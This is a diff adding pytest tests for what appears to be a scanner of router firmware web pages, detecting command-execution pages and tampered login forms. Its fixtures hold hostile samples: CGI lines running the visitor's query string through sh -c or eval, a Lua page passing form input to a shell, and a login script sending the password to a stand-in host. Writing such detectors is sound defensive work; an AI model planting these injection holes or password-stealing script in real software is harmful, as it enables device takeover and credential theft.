@@ -123,6 +123,53 @@ def test_pages_that_do_not(page: bytes) -> None:
     assert "web-command-page" not in pages(None, page, "x.php")
 
 
+def test_server_code_that_gives_a_visitors_words_to_a_command_by_a_variable() -> None:
+    direct = b"<% local c = luci.http.formvalue('c') luci.sys.exec('ping ' .. c) %>"
+    assert pages(None, direct, "x.htm") == ["web-command-page"]
+    apart = b"<% local t = luci.http.formvalue('t') if t then show(t) end luci.sys.exec('uptime') %>"
+    assert pages(None, apart, "x.htm") == ["page-added"]
+    assert pages(b"<%:Status%>", b"<%:Status%> <%:More%> <%# note %>", "x.htm") == ["page-text-changed"]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b'sh -c "$QUERY_STRING"',
+        b"eval $QUERY_STRING",
+        b"read -r line\n$line",
+        b'c=$(echo "$QUERY_STRING" | sed s/+/x/)\n/bin/sh -c "$c"',
+    ],
+)
+def test_scripts_of_the_server_that_run_what_a_visitor_says(line: bytes) -> None:
+    script = b"#!/bin/sh\necho Content-Type: text/plain\necho\n" + line + b"\n"
+    (found,) = findings(WebPages, case({}, {"www/cgi-bin/status": script}))
+    assert (found.rule, found.severity) == ("web-command-page", Severity.HIGH)
+    assert rules(WebPages, case({"www/cgi-bin/status": script}, {"www/cgi-bin/status": script + b"# more\n"})) == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [b'echo "$QUERY_STRING"', b"eval $(cat /etc/settings)", b'[ -n "$QUERY_STRING" ] && uptime', b"sh -c uptime"],
+)
+def test_scripts_of_the_server_that_do_not(line: bytes) -> None:
+    assert rules(WebPages, case({}, {"www/cgi-bin/status": b"#!/bin/sh\n" + line + b"\n"})) == []
+
+
+def test_without_the_genuine_page_only_what_none_has() -> None:
+    def alone(page: bytes) -> list[tuple[str, Confidence]]:
+        one = case({WEB + "a.asp": b"genuine"}, {WEB + "a.asp": page}, at_hand=False)
+        return [(each.rule, each.confidence) for each in findings(WebPages, one)]
+
+    leaving = LOGIN.replace(b"/boaform/formLogin", b"http://login.example.net/x")
+    assert alone(leaving) == [("login-form-redirected", Confidence.LOW)]
+    telling = LOGIN.replace(
+        b"go() {", b"go() { new Image().src = 'http://c.example.net/' + document.forms[0].password.value;"
+    )
+    assert alone(telling) == [("login-script-added", Confidence.LOW)]
+    assert alone(LOGIN) == []
+    assert alone(b"<a href=http://example.net/>help</a>") == []
+
+
 def test_pages_that_were_added() -> None:
     diagnosis = b"<form action=/goform/cmd method=post><input name=cmd></form>"
     (found,) = findings(WebPages, case({}, {WEB + "hidden.asp": diagnosis}))
